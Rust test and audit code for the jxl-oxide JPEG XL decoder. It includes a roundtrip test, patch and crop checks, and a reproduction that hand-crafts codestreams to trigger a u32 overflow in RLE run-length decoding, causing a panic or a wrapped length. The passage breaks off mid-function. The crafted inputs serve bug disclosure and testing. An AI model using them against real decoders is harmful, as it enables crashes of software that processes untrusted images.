            if count == 1 {
                continue;
            }
            let alphabet_bits = count.next_power_of_two().trailing_zeros() as usize;
            w.bits(1, 2); // hskip == 1: simple prefix code
            w.bits(t.len() as u64 - 1, 2);
            for &sym in t {
                w.bits(sym as u64, alphabet_bits);
            }
            if t.len() == 4 {
                w.flag(false); // tree_select: all four symbols use two bits
            }
        }
    }

    fn write_symbol(&self, w: &mut BitWriter, ctx: usize, value: u32) {
        let t = &self.tokens[self.ctx_map[ctx] as usize];
        let (token, raw, nraw) = tokenize(value);
        let rank = t.iter().position(|&x| x == token).unwrap();
        match (t.len(), rank) {
            (1, _) => {}
            (2, r) => w.bits(r as u64, 1),
            (3, 0) => w.bits(0, 1),
            (3, r) => {
                w.bits(1, 1);
                w.bits(r as u64 - 1, 1);
            }
            (4, r) => {
                w.bits((r as u64 >> 1) & 1, 1);
                w.bits(r as u64 & 1, 1);
            }
            _ => unreachable!(),
        }
        w.bits(raw as u64, nraw);
    }
}

fn pack_signed(v: i32) -> u32 {
    if v >= 0 { 2 * v as u32 } else { (-2 * v - 1) as u32 }
}

fn unpack_signed(v: u32) -> i32 {
    if v & 1 == 0 { (v / 2) as i32 } else { -(((v + 1) / 2) as i32) }
}

// ---------------------------------------------------------------------------------------------
// MA tree and the sample model.
// ---------------------------------------------------------------------------------------------

const PRED_ZERO: u32 = 0;
const PRED_WEST: u32 = 1;

#[derive(Clone, Copy)]
enum Node {
    Decision { prop: u32, value: i32, left: usize, right: usize },
    Leaf { ctx: usize, predictor: u32, offset: i32 },
}

const TREE: [Node; 9] = [
    Node::Decision { prop: 0, value: 0, left: 1, right: 2 },
    Node::Decision { prop: 16, value: 200, left: 3, right: 4 },
    Node::Leaf { ctx: 0, predictor: PRED_ZERO, offset: 128 },
    Node::Leaf { ctx: 1, predictor: PRED_ZERO, offset: 100 },
    Node::Decision { prop: 16, value: 100, left: 5, right: 6 },
    Node::Leaf { ctx: 2, predictor: PRED_ZERO, offset: 100 },
    Node::Decision { prop: 16, value: 30, left: 7, right: 8 },
    Node::Leaf { ctx: 3, predictor: PRED_ZERO, offset: 100 },
    Node::Leaf { ctx: 4, predictor: PRED_ZERO, offset: 100 },
];

/// Number of raw bits carried by every residual coded in the given leaf context.
const RAW_BITS: [usize; 5] = [7, 3, 4, 3, 4];

struct Encoded {
    planes: Vec<Vec<i32>>,
    tree_symbols: Vec<(usize, u32)>,
    pixel_symbols: Vec<(usize, u32)>,
}

fn encode_image() -> Encoded {
    let mut tree_symbols = Vec::new();
    for node in TREE {
        match node {
            Node::Decision { prop, value, .. } => {
                tree_symbols.push((1, prop + 1));
                tree_symbols.push((0, pack_signed(value)));
            }
            Node::Leaf { predictor, offset, .. } => {
                tree_symbols.push((1, 0));
                tree_symbols.push((2, predictor));
                tree_symbols.push((3, pack_signed(offset)));
                tree_symbols.push((4, 0)); // mul_log
                tree_symbols.push((5, 0)); // mul_bits -> multiplier 1
            }
        }
    }

    let mut rng = 0x2545f491u32;
    let mut next = move || {
        rng = rng.wrapping_mul(1664525).wrapping_add(1013904223);
        rng >> 8
    };

    let mut planes = vec![vec![0i32; WIDTH * HEIGHT]; CHANNELS];
    let mut pixel_symbols = Vec::new();
    for c in 0..CHANNELS {
        for y in 0..HEIGHT {
            for x in 0..WIDTH {
                let prev = if c > 0 { planes[c - 1][y * WIDTH + x] } else { 0 };
                let property = |p: u32| -> i32 {
                    match p {
                        0 => c as i32,
                        16 => prev.abs(),
                        _ => unreachable!(),
                    }
                };

                let mut idx = 0usize;
                let (ctx, predictor, offset) = loop {
                    match TREE[idx] {
                        Node::Decision { prop, value, left, right } => {
                            idx = if property(prop) > value { left } else { right };
                        }
                        Node::Leaf { ctx, predictor, offset } => break (ctx, predictor, offset),
                    }
                };

                let cur = &planes[c];
                let prediction = match predictor {
                    PRED_ZERO => 0,
                    PRED_WEST => {
                        if x > 0 {
                            cur[y * WIDTH + x - 1]
                        } else if y > 0 {
                            cur[(y - 1) * WIDTH + x]
                        } else {
                            0
                        }
                    }
                    _ => unreachable!(),
                };

                let nraw = RAW_BITS[ctx];
                let mut raw = next() & ((1 << nraw) - 1);
                if predictor == PRED_WEST {
                    // Keep the random walk inside the 8-bit range: even values are positive residuals.
                    raw = (raw & !1) | (prediction >= 128) as u32;
                }
                let value = (1u32 << nraw) | raw;
                let sample = prediction + unpack_signed(value) + offset;
                assert!((0..=255).contains(&sample));
                planes[c][y * WIDTH + x] = sample;
                pixel_symbols.push((ctx, value));
            }
        }
    }

    Encoded { planes, tree_symbols, pixel_symbols }
}

fn build_codestream(enc: &Encoded) -> Vec<u8> {
    let tree_stream = PrefixStream::new(vec![0, 1, 2, 3, 4, 5], &enc.tree_symbols);
    // Leaf context 0 has its own cluster, contexts 1 and 2 share one.
    let pixel_stream = PrefixStream::new(vec![0, 1, 2, 1, 2], &enc.pixel_symbols);

    // The only TOC section: LfGlobal (+ empty LfGroup, PassGroup).
    let mut s = BitWriter::default();
    s.flag(true); // LfChannelDequantization.all_default
    s.flag(true); // global MA tree present
    tree_stream.write_header(&mut s);
    for &(ctx, value) in &enc.tree_symbols {
        tree_stream.write_symbol(&mut s, ctx, value);
    }
    pixel_stream.write_header(&mut s);
    s.flag(true); // ModularHeader.use_global_tree
    s.flag(true); // wp_params.default_wp
    s.bits(0, 2); // nb_transforms = 0
    for &(ctx, value) in &enc.pixel_symbols {
        pixel_stream.write_symbol(&mut s, ctx, value);
    }
    s.pad_to_byte();
    let section = s.bytes;
    assert!(section.len() < 1024);

    let mut w = BitWriter::default();
    w.bits(0x0aff, 16); // signature

    // SizeHeader
    assert_eq!((WIDTH, HEIGHT), (16, 8));
    w.flag(true); // div8
    w.bits(0, 5); // height = 8
    w.bits(7, 3); // ratio 2:1 -> width = 16

    // ImageMetadata
    w.flag(false); // all_default
    w.flag(false); // extra_fields
    w.flag(false); // bit_depth.float_sample
    w.bits(0, 2); // bits_per_sample = 8
    w.flag(true); // modular_16bit_buffers
    w.bits(0, 2); // num_extra = 0
    w.flag(false); // xyb_encoded
    w.flag(true); // colour_encoding.all_default (sRGB)
    w.bits(0, 2); // extensions
    w.flag(true); // default_m
    w.pad_to_byte();

    // FrameHeader
    w.flag(false); // all_default
    w.bits(0, 2); // frame_type = regular
    w.bits(1, 1); // encoding = modular
    w.bits(0, 2); // flags = 0
    w.flag(false); // do_ycbcr
    w.bits(0, 2); // upsampling = 1
    w.bits(1, 2); // group_size_shift = 1
    w.bits(0, 2); // num_passes = 1
    w.flag(false); // have_crop
    w.bits(0, 2); // blending mode = replace
    w.flag(true); // is_last
    w.bits(0, 2); // name length = 0
    w.flag(false); // restoration_filter.all_default
    w.flag(false); // gab disabled
    w.bits(0, 2); // epf_iters = 0
    w.bits(0, 2); // restoration_filter.extensions
    w.bits(0, 2); // extensions

    // TOC
    w.flag(false); // not permuted
    w.pad_to_byte();
    w.bits(0, 2);
    w.bits(section.len() as u64, 10);
    w.pad_to_byte();

    let mut out = w.bytes;
    out.extend_from_slice(&section);
    out
}

#[test]
fn lossless_modular_with_previous_channel_property_roundtrips() {
    let enc = encode_image();

    // Make sure the image exercises both branches of the previous-channel decision.
    let bright = enc.planes[0].iter().filter(|&&v| v > 100).count();
    assert!(bright > 16 && bright < WIDTH * HEIGHT - 16);

    let codestream = build_codestream(&enc);
    let image = JxlImage::builder()
        .read(&codestream[..])
        .expect("failed to read codestream");
    assert_eq!(image.width() as usize, WIDTH);
    assert_eq!(image.height() as usize, HEIGHT);

    let render = image.render_frame(0).expect("failed to render");
    let planar = render.image_planar();
    assert_eq!(planar.len(), CHANNELS);

    let mut mismatches = Vec::new();
    for (c, (fb, expected)) in planar.iter().zip(&enc.planes).enumerate() {
        assert_eq!(fb.width(), WIDTH);
        assert_eq!(fb.height(), HEIGHT);
        assert_eq!(fb.channels(), 1);
        for (i, (&actual, &expected)) in fb.buf().iter().zip(expected).enumerate() {
            let actual = (actual * 255.0).round() as i32;
            if actual != expected {
                mismatches.push((c, i % WIDTH, i / WIDTH, expected, actual));
            }
        }
    }

    if !mismatches.is_empty() {
        for &(c, x, y, expected, actual) in mismatches.iter().take(10) {
            eprintln!("channel {c} ({x}, {y}): encoded {expected}, decoded {actual}");
        }
        panic!(
            "{} of {} decoded samples differ from the encoded samples",
            mismatches.len(),
            WIDTH * HEIGHT * CHANNELS,
        );
    }
}

use jxl_oxide::{InitializeResult, JxlImage};

// For every prefix of a valid file: initialisation must report NeedMoreData or succeed, and feeding the rest must not fail.
fn main() {
    let path = std::env::args().nth(1).unwrap();
    let lo: usize = std::env::args().nth(2).unwrap().parse().unwrap();
    let hi: usize = std::env::args().nth(3).unwrap().parse().unwrap();
    let file = std::fs::read(path).unwrap();
    let mut bad = 0;
    for cut in lo..hi.min(file.len()) {
        let mut uninit = JxlImage::builder().build_uninit();
        uninit.feed_bytes(&file[..cut]).unwrap();
        match uninit.try_init() {
            Ok(InitializeResult::NeedMoreData(_)) => {}
            Ok(InitializeResult::Initialized(mut image)) => {
                if let Err(e) = image.feed_bytes(&file[cut..]) {
                    bad += 1;
                    println!("cut {cut}: try_init succeeded on the prefix, feeding the remaining bytes failed: {e}");
                }
            }
            Err(e) => {
                bad += 1;
                println!("cut {cut}: try_init failed on a prefix of a valid file: {e}");
            }
        }
    }
    println!("bad prefixes: {bad}");
    std::process::exit(if bad > 0 { 1 } else { 0 });
}

use audit_e::*;

fn build() -> Vec<u8> {
    let img = ImageSpec::rgb(256, 128);
    let mut y = FrameSpec::new(&img);
    y.group_size_shift = 0;
    y.is_last = false;
    y.save_as_reference = 1;
    y.save_before_ct = true;
    y.fill(&img, |c, x, yy| ((x / 2 + yy / 4 + 40 * c as u32) % 200 + 20) as i32);
    let mut z = FrameSpec::new(&img);
    z.group_size_shift = 0;
    z.flags = 2;
    z.patches.push(PatchSpec { ref_idx: 1, x0: 10, y0: 10, width: 8, height: 4, targets: vec![(200, 50, vec![1])] });
    z.fill(&img, |_, _, _| 7);
    encode_image(&img, &[y, z])
}

fn crop_of(full: &[(usize, usize, Vec<f32>)], l: usize, t: usize, w: usize, h: usize) -> Vec<(usize, usize, Vec<f32>)> {
    full.iter().map(|(fw, _fh, buf)| {
        let mut v = Vec::new();
        for y in t..t + h { for x in l..l + w { v.push(buf[y * fw + x]); } }
        (w, h, v)
    }).collect()
}

fn main() {
    let bytes = build();
    
    let mut image = open(&bytes);
    let full = render_planar(&image, 0);
    let expect = crop_of(&full, 198, 49, 12, 6);
    dump("full render, window (198,49) 12x6", &expect[..1]);
    image.set_image_region(CropInfo { left: 198, top: 49, width: 12, height: 6 });
    let cropped = render_planar(&image, 0);
    dump("render with requested region (198,49) 12x6", &cropped[..1]);
    let same = expect.iter().zip(&cropped).all(|(a, b)| a.2 == b.2);
    println!("MATCH = {same}");
}

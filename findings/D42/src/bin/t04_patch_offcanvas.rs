use audit_e::*;

fn build(src_x: u32) -> Vec<u8> {
    let img = ImageSpec::rgb(256, 128);
    let mut y = FrameSpec::new(&img);
    y.group_size_shift = 0;
    y.is_last = false;
    y.save_as_reference = 1;
    y.save_before_ct = true;
    y.crop = Some((-256, 0, 512, 128)); // covers the whole canvas => resets_canvas
    y.fill(&img, |c, x, yy| ((x / 2 + yy / 4 + 40 * c as u32) % 200 + 20) as i32);
    let mut z = FrameSpec::new(&img);
    z.group_size_shift = 0;
    z.flags = 2;
    z.patches.push(PatchSpec { ref_idx: 1, x0: src_x, y0: 10, width: 8, height: 2, targets: vec![(200, 50, vec![1])] });
    z.fill(&img, |_, _, _| 7);
    encode_image(&img, &[y, z])
}

fn main() {
    for src_x in [10u32, 300] {
        let bytes = build(src_x);
        let image = open(&bytes);
        let full = render_planar(&image, 0);
        let (w, _, buf) = &full[0];
        println!("patch source x0={src_x} (frame coords; canvas covers frame x 256..512): expected first sample {}", (src_x / 2 + 10 / 4) % 200 + 20);
        for y in 50..52 {
            let row: Vec<i32> = (198..210).map(|x| to_u8(buf[y * w + x])).collect();
            println!("  y={y}: {row:?}");
        }
    }
}

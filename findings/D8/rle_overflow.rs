//! Reproduction: `jxl_coding::DecoderRleMode::read_varint_clustered` computes
//!
//! ```text
//! RleToken::Repeat(self.inner.read_uint_prefilled(bitstream, &self.len_config, token)? + self.min_length)
//! ```
//!
//! with a plain `u32 +`.  `len_config` (the LZ77 length `IntegerConfig`) is chosen by the stream,
//! so `read_uint_prefilled` can return anything up to 0xFFFF_FFFF, and `min_length >= 3`.  With
//! overflow checks on (debug / fuzzing builds) that is a panic on untrusted input; without them
//! the repeat length silently wraps.
//!
//! Nothing under crates/*/src is modified; everything is fed through public APIs.

use std::panic::{self, AssertUnwindSafe};
use std::sync::Mutex;

use jxl_bitstream::Bitstream;
use jxl_coding::{Decoder, RleToken};

// ---------------------------------------------------------------------------------------------
// LSB-first bit writer (mirror of jxl_bitstream::Bitstream, which reads little-endian, LSB first)
// ---------------------------------------------------------------------------------------------

#[derive(Default)]
struct BitWriter {
    bytes: Vec<u8>,
    nbits: usize,
}

impl BitWriter {
    fn put(&mut self, value: u64, n: usize) {
        assert!(n <= 64);
        assert!(n == 64 || value >> n == 0, "value {value:#x} does not fit in {n} bits");
        for i in 0..n {
            if self.nbits % 8 == 0 {
                self.bytes.push(0);
            }
            if (value >> i) & 1 != 0 {
                *self.bytes.last_mut().unwrap() |= 1 << (self.nbits % 8);
            }
            self.nbits += 1;
        }
    }

    fn pad_to_byte(&mut self) {
        while self.nbits % 8 != 0 {
            self.put(0, 1);
        }
    }

    fn append_bytes(&mut self, bytes: &[u8]) {
        assert_eq!(self.nbits % 8, 0);
        self.bytes.extend_from_slice(bytes);
        self.nbits += bytes.len() * 8;
    }
}

// ---------------------------------------------------------------------------------------------
// Entropy-coded stream: `jxl_coding::Decoder::parse(bitstream, 1)` with LZ77 in "RLE shape"
// ---------------------------------------------------------------------------------------------

const MIN_SYMBOL: u32 = 224;
const MIN_LENGTH: u32 = 3;
/// Token that `len_config` (split_exponent 0) expands with n = 31 extra bits.
const TOKEN_LEN_N31: u32 = MIN_SYMBOL + 32;

/// Writes the `Decoder::parse(_, 1)` preamble.
///
/// LZ77 enabled (min_symbol 224, min_length 3, length config split_exponent = msb = lsb = 0);
/// 1 + 1 contexts: ctx 0 -> cluster 0, LZ77 distance ctx 1 -> cluster 1; prefix codes;
/// both clusters' hybrid-uint configs split_exponent 0;
/// cluster 0: alphabet size 257, simple prefix code {0, 256}, one bit each;
/// cluster 1: alphabet size 2, simple prefix code with the single symbol 1 (zero bits)
///            -> `as_rle()` precondition `single_symbol(lz_cluster) == Some(1)`.
fn write_rle_decoder_preamble(w: &mut BitWriter) {
    // Lz77::parse
    w.put(1, 1); // enabled = true
    w.put(0, 2); // min_symbol: U32 selector 0 -> 224
    w.put(0, 2); // min_length: U32 selector 0 -> 3
    // lz_len_conf = IntegerConfig::parse(log_alphabet_size = 8): add_log2_ceil(8) = 4 bits
    w.put(0, 4); // split_exponent = 0 -> split = 1; msb_in_token, lsb_in_token: 0 bits wide -> 0, 0

    // DecoderInner::parse(num_dist = 1 + 1): read_clusters(2)
    w.put(1, 1); // is_simple
    w.put(1, 2); // nbits = 1
    w.put(0, 1); // ctx 0          -> cluster 0
    w.put(1, 1); // ctx 1 (lz dist)-> cluster 1          => num_clusters = 2, no hole
    w.put(1, 1); // use_prefix_code = true -> log_alphabet_size = 15

    // configs: IntegerConfig::parse(15) x 2; split_exponent field is add_log2_ceil(15) = 4 bits
    w.put(0, 4); // cluster 0: split_exponent = 0 (msb, lsb zero-width)
    w.put(0, 4); // cluster 1: split_exponent = 0 (required by as_rle)

    // prefix code alphabet sizes ("counts"), one per cluster: 1 + (1 << n) + u(n)
    w.put(1, 1); // cluster 0: count > 1
    w.put(8, 4); //   n = 8
    w.put(0, 8); //   count = 1 + 256 + 0 = 257 -> symbols 0..=256
    w.put(1, 1); // cluster 1: count > 1
    w.put(0, 4); //   n = 0; u(0) reads nothing
                 //   count = 1 + 1 + 0 = 2 -> symbols 0..=1

    // prefix::Histogram::parse(257) for cluster 0
    w.put(1, 2); // hskip = 1 -> simple code
    w.put(1, 2); // nsym = 1 + 1 = 2
    // alphabet_bits = 257.next_power_of_two().trailing_zeros() = 9
    w.put(0, 9); // symbol 0    (length 1, code "0")
    w.put(256, 9); // symbol 256  (length 1, code "1")

    // prefix::Histogram::parse(2) for cluster 1
    w.put(1, 2); // hskip = 1 -> simple code
    w.put(0, 2); // nsym = 0 + 1 = 1
    // alphabet_bits = 2.next_power_of_two().trailing_zeros() = 1
    w.put(1, 1); // the single symbol is 1
}

/// Literal 0: prefix code "0"; cluster-0 config has split = 1, token 0 < split -> value 0.
fn put_value_zero(w: &mut BitWriter) {
    w.put(0, 1);
}

/// Repeat token 256 (= min_symbol + 32).  `read_uint_prefilled(len_config, 32)`:
/// n = 0 - 0 + ((32 - 1) >> 0) = 31, result = (1 << 31) | rest.
fn put_repeat_n31(w: &mut BitWriter, raw_len: u32) {
    assert!(raw_len >= 0x8000_0000);
    assert_eq!(TOKEN_LEN_N31, 256);
    w.put(1, 1); // prefix code "1" -> symbol 256
    w.put((raw_len & 0x7fff_ffff) as u64, 31);
}

// ---------------------------------------------------------------------------------------------
// Panic capture
// ---------------------------------------------------------------------------------------------

static HOOK_LOCK: Mutex<()> = Mutex::new(());
static CAPTURED: Mutex<Option<(String, String)>> = Mutex::new(None);

/// Runs `f`, returning `Err((message, "file:line:col"))` if it panicked.
fn run_capturing_panic<R>(f: impl FnOnce() -> R) -> Result<R, (String, String)> {
    let _guard = HOOK_LOCK.lock().unwrap_or_else(|e| e.into_inner());
    *CAPTURED.lock().unwrap() = None;
    let prev = panic::take_hook();
    panic::set_hook(Box::new(|info| {
        let msg = if let Some(s) = info.payload().downcast_ref::<&str>() {
            s.to_string()
        } else if let Some(s) = info.payload().downcast_ref::<String>() {
            s.clone()
        } else {
            "<non-string panic payload>".to_string()
        };
        let loc = info
            .location()
            .map(|l| format!("{}:{}:{}", l.file(), l.line(), l.column()))
            .unwrap_or_default();
        if std::env::var_os("DEMO_BACKTRACE").is_some() {
            eprintln!("{}", std::backtrace::Backtrace::force_capture());
        }
        *CAPTURED.lock().unwrap() = Some((msg, loc));
    }));
    let result = panic::catch_unwind(AssertUnwindSafe(f));
    panic::set_hook(prev);
    match result {
        Ok(r) => Ok(r),
        Err(_) => Err(CAPTURED.lock().unwrap().take().expect("hook ran")),
    }
}

fn assert_is_the_rle_overflow(msg: &str, loc: &str) {
    assert_eq!(msg, "attempt to add with overflow");
    // crates/jxl-coding/src/lib.rs:221..=223 is the `read_uint_prefilled(..)? + self.min_length`
    // expression inside DecoderRleMode::read_varint_clustered (lines 210..=233).
    assert!(loc.contains("jxl-coding/src/lib.rs:"), "unexpected location {loc}");
    let line: u32 = loc.rsplit(':').nth(1).unwrap().parse().unwrap();
    assert!((210..=233).contains(&line), "unexpected location {loc}");
}

// ---------------------------------------------------------------------------------------------
// Direct test at the public jxl_coding API
// ---------------------------------------------------------------------------------------------

/// Builds preamble + [Value 0, Repeat(raw_len + 3)], parses it with the real `Decoder::parse`,
/// enters RLE mode and reads two tokens.
fn run_direct(raw_len: u32) -> Result<Vec<RleToken>, (String, String)> {
    let mut w = BitWriter::default();
    write_rle_decoder_preamble(&mut w);
    let preamble_bits = w.nbits;
    put_value_zero(&mut w);
    put_repeat_n31(&mut w, raw_len);
    w.pad_to_byte();
    w.bytes.extend_from_slice(&[0u8; 16]);
    let buf = w.bytes;

    let mut bitstream = Bitstream::new(&buf);
    let mut decoder = Decoder::parse(&mut bitstream, 1).expect("Decoder::parse");
    assert_eq!(bitstream.num_read_bits(), preamble_bits, "preamble mirrors the parser exactly");
    assert_eq!(decoder.cluster_map(), &[0u8, 1u8]);
    decoder.begin(&mut bitstream).expect("begin");
    assert!(decoder.as_no_lz77().is_none(), "LZ77 is enabled");
    let mut rle = decoder.as_rle().expect("as_rle() must accept this stream");
    let cluster = rle.cluster_map()[0];

    run_capturing_panic(move || {
        let mut out = Vec::new();
        out.push(rle.read_varint_clustered(&mut bitstream, cluster).expect("token #0"));
        out.push(rle.read_varint_clustered(&mut bitstream, cluster).expect("token #1"));
        out
    })
}

/// Control: raw length 0xFFFF_FFFC + min_length 3 = 0xFFFF_FFFF fits; proves the stream is
/// well-formed and that the decoder really is in RLE mode reading what we think it reads.
#[test]
fn direct_control_largest_non_overflowing_length() {
    let tokens = run_direct(0xFFFF_FFFC).expect("no overflow yet");
    println!("[control] tokens = {tokens:?}");
    assert!(matches!(tokens[0], RleToken::Value(0)));
    assert!(matches!(tokens[1], RleToken::Repeat(0xFFFF_FFFF)));
}

fn check_direct(raw_len: u32) {
    let outcome = run_direct(raw_len);
    if cfg!(debug_assertions) {
        // overflow-checks follow debug-assertions in the default dev/test profile
        let (msg, loc) = match outcome {
            Err(p) => p,
            Ok(tokens) => panic!("expected a panic, got {tokens:?}"),
        };
        println!(
            "[raw_len {raw_len:#x} + min_length {MIN_LENGTH}] DecoderRleMode::read_varint_clustered PANICKED: '{msg}' at {loc}"
        );
        assert_is_the_rle_overflow(&msg, &loc);
    } else {
        let tokens = outcome.expect("no panic without overflow checks");
        println!("[raw_len {raw_len:#x} + min_length {MIN_LENGTH}] (no overflow checks) tokens = {tokens:?}");
        assert!(matches!(tokens[0], RleToken::Value(0)));
        let expected = raw_len.wrapping_add(MIN_LENGTH);
        assert!(matches!(tokens[1], RleToken::Repeat(n) if n == expected));
    }
}

/// 0xFFFF_FFFF + 3: token 256 followed by 31 one-bits.  Release: wraps to Repeat(2).
#[test]
fn direct_u32_max_plus_min_length_overflows() {
    check_direct(0xFFFF_FFFF);
}

/// 0xFFFF_FFFD + 3: smallest overflowing value.  Release: wraps to Repeat(0).
#[test]
fn direct_smallest_overflowing_length() {
    check_direct(0xFFFF_FFFD);
}

// ---------------------------------------------------------------------------------------------
// End-to-end: a complete tiny bare codestream through jxl_oxide::JxlImage
// ---------------------------------------------------------------------------------------------

/// `ImageHeader`: signature, SizeHeader 64x64, ImageMetadata all_default, default_m.  27 bits.
fn write_image_header(w: &mut BitWriter) {
    w.put(0x0aff, 16); // signature (bytes FF 0A)
    // SizeHeader
    w.put(1, 1); // div8 = true
    w.put(7, 5); // h_div8 = 1 + 7 = 8  -> height = 64
    w.put(1, 3); // ratio = 1           -> width = height = 64
    // ImageMetadata
    w.put(1, 1); // all_default = true (8-bit, no extra channels, xyb_encoded = true)
    w.put(1, 1); // default_m = true
}

/// `FrameHeader`: regular frame, Modular encoding, flags = 0, one 256x256 group, one pass.
fn write_modular_frame_header(w: &mut BitWriter) {
    w.put(0, 1); // all_default = false
    w.put(0, 2); // frame_type = RegularFrame
    w.put(1, 1); // encoding = Modular
    w.put(0, 2); // flags: U64 selector 0 -> 0
    // do_ycbcr: skipped (xyb_encoded); jpeg_upsampling: skipped
    w.put(0, 2); // upsampling: U32 selector 0 -> 1
    // ec_upsampling: 0 entries
    w.put(1, 2); // group_size_shift = 1 (group_dim 256 -> one group)
    // x_qm_scale / b_qm_scale: skipped (not VarDct)
    w.put(0, 2); // passes.num_passes: U32 selector 0 -> 1
    // lf_level: skipped
    w.put(0, 1); // have_crop = false
    w.put(0, 2); // blending_info.mode: U32 selector 0 -> Replace (rest of BlendingInfo skipped)
    // ec_blending_info: 0 entries; duration, timecode: skipped (no animation)
    w.put(1, 1); // is_last = true
    // save_as_reference, save_before_ct: skipped
    w.put(0, 2); // name: length U32 selector 0 -> 0
    w.put(1, 1); // restoration_filter.all_default = true
    w.put(0, 2); // extensions: U64 selector 0 -> 0
}

/// The single TOC section: LfGlobal (no patches/splines/noise) with GlobalModular holding the
/// three 64x64 colour channels, decoded with a local single-leaf MA tree
/// (Gradient predictor, offset 0, multiplier 1) -> jxl-modular's "fast lossless" RLE path.
fn lf_global_payload(first_raw_len: u32, padding: usize) -> Vec<u8> {
    lf_global_payload_ex(first_raw_len, true, padding)
}

fn lf_global_payload_ex(first_raw_len: u32, second_run: bool, padding: usize) -> Vec<u8> {
    let mut w = BitWriter::default();
    // LfGlobal::parse
    w.put(1, 1); // LfChannelDequantization.all_default = true
    // GlobalModular::parse
    w.put(0, 1); // no global MA tree
    // ModularHeader
    w.put(0, 1); // use_global_tree = false
    w.put(1, 1); // wp_params.default_wp = true
    w.put(0, 2); // nb_transforms: U32 selector 0 -> 0

    // MaConfig::parse: tree_decoder = Decoder::parse(bitstream, 6)
    w.put(0, 1); // Lz77 disabled
    w.put(1, 1); // read_clusters(6): is_simple
    w.put(0, 2); //   nbits = 0 -> all six contexts -> cluster 0
    w.put(1, 1); // use_prefix_code
    w.put(4, 4); // IntegerConfig::parse(15): split_exponent = 4 (split = 16)
    w.put(0, 3); //   msb_in_token: add_log2_ceil(4) = 3 bits -> 0
    w.put(0, 3); //   lsb_in_token: add_log2_ceil(4 - 0) = 3 bits -> 0
    w.put(1, 1); // prefix alphabet size: count > 1
    w.put(2, 4); //   n = 2
    w.put(1, 2); //   count = 1 + 4 + 1 = 6 -> symbols 0..=5
    w.put(1, 2); // Histogram::parse(6): hskip = 1 -> simple
    w.put(1, 2); //   nsym = 2; alphabet_bits = 8.trailing_zeros() = 3
    w.put(0, 3); //   symbol 0 (code "0")
    w.put(5, 3); //   symbol 5 (code "1")
    // the tree: a single leaf
    w.put(0, 1); // ctx 1: property = 0 -> leaf
    w.put(1, 1); // ctx 2: predictor = 5 (Gradient)
    w.put(0, 1); // ctx 3: offset = 0
    w.put(0, 1); // ctx 4: mul_log = 0
    w.put(0, 1); // ctx 5: mul_bits = 0 -> multiplier = 1
    // sample decoder = Decoder::parse(bitstream, 1 leaf context)
    write_rle_decoder_preamble(&mut w);

    // Samples (3 channels x 64 x 64 = 12288), read through RleState::decode:
    put_repeat_n31(&mut w, first_raw_len); // first token of channel 0 -> the overflowing add
    // (only reached without overflow checks) a huge, non-overflowing run covering the rest
    if second_run {
        put_repeat_n31(&mut w, 0x8000_0000);
    }
    w.pad_to_byte();
    w.bytes.extend(std::iter::repeat_n(0u8, padding));
    w.bytes
}

fn full_codestream(first_raw_len: u32) -> Vec<u8> {
    codestream_with_payload(lf_global_payload(first_raw_len, 8))
}

fn codestream_with_payload(payload: Vec<u8>) -> Vec<u8> {
    let mut w = BitWriter::default();
    write_image_header(&mut w);
    w.pad_to_byte(); // Frame::parse starts with zero_pad_to_byte
    write_modular_frame_header(&mut w);
    // TOC: one entry (1 group, 1 pass)
    w.put(0, 1); // permutated_toc = false
    w.pad_to_byte();
    assert!(payload.len() < 1024);
    w.put(0, 2); // U32 selector 0 -> u(10)
    w.put(payload.len() as u64, 10);
    w.pad_to_byte();
    w.append_bytes(&payload);
    w.bytes
}

fn decode_like_fuzz_harness(data: &[u8]) -> Vec<String> {
    // Same calls as crates/jxl-oxide-fuzz/src/lib.rs::fuzz_decode
    use jxl_oxide::{AllocTracker, JxlImage, JxlThreadPool};
    let mut log = Vec::new();
    let image = JxlImage::builder()
        .pool(JxlThreadPool::none())
        .alloc_tracker(AllocTracker::with_limit(128 * 1024 * 1024))
        .read(std::io::Cursor::new(data));
    match image {
        Ok(image) => {
            log.push(format!(
                "JxlImage::read ok: {}x{}, {} keyframe(s)",
                image.width(),
                image.height(),
                image.num_loaded_keyframes()
            ));
            for keyframe_idx in 0..image.num_loaded_keyframes() {
                match image.render_frame(keyframe_idx) {
                    Ok(render) => {
                        let fb = render.image_all_channels();
                        let buf = fb.buf();
                        let min = buf.iter().copied().fold(f32::INFINITY, f32::min);
                        let max = buf.iter().copied().fold(f32::NEG_INFINITY, f32::max);
                        log.push(format!(
                            "render_frame({keyframe_idx}) -> Ok: {}x{}x{} samples, min {min}, max {max}",
                            fb.width(),
                            fb.height(),
                            fb.channels()
                        ));
                    }
                    Err(e) => log.push(format!("render_frame({keyframe_idx}) -> Err({e})")),
                }
            }
        }
        Err(e) => log.push(format!("JxlImage::read -> Err({e})")),
    }
    for l in &log {
        println!("{l}");
    }
    log
}

#[test]
fn end_to_end_jxl_image_panics() {
    let data = full_codestream(0xFFFF_FFFF);
    println!("codestream ({} bytes): {:02x?}", data.len(), data);
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/rle_repeat_overflow.jxl");
    std::fs::write(path, &data).expect("write sample codestream");

    let outcome = run_capturing_panic(|| decode_like_fuzz_harness(&data));
    if cfg!(debug_assertions) {
        let (msg, loc) = outcome.expect_err("expected a panic through the public API");
        println!("JxlImage decode PANICKED: '{msg}' at {loc}");
        assert_is_the_rle_overflow(&msg, &loc);
    } else {
        let log = outcome.expect("no panic without overflow checks");
        // Nothing rejects the wrapped run length: the frame renders.
        assert!(log.iter().any(|l| l.contains("render_frame(0) -> Ok")), "{log:?}");
    }
}

/// Control for the end-to-end stream: same bytes except the first run length is 0xFFFF_FFFC
/// (+3 = u32::MAX, no overflow) -> decodes in every profile, so the stream really reaches
/// `RleState::decode` and everything around it is well-formed.
#[test]
fn end_to_end_control_decodes() {
    let data = full_codestream(0xFFFF_FFFC);
    let log = run_capturing_panic(|| decode_like_fuzz_harness(&data)).expect("no panic");
    assert!(log.iter().any(|l| l.contains("render_frame(0) -> Ok")), "{log:?}");
}

/// Release-mode semantics of the wrapped sum inside jxl-modular's `RleState::decode`
/// (`self.repeat = len; self.repeat = self.repeat.wrapping_sub(1)`).  Experiment: the stream
/// ends right after the first (overflowing) run token, so whether decoding still "succeeds"
/// tells how long the wrapped run was taken to be.
#[test]
fn release_wrapped_run_lengths() {
    if cfg!(debug_assertions) {
        println!("skipped: overflow checks are on in this profile");
        return;
    }
    for raw in [0xFFFF_FFFDu32, 0xFFFF_FFFF] {
        println!("-- first run raw_len {raw:#x} (wraps to {}), nothing after it", raw.wrapping_add(MIN_LENGTH));
        let data = codestream_with_payload(lf_global_payload_ex(raw, false, 0));
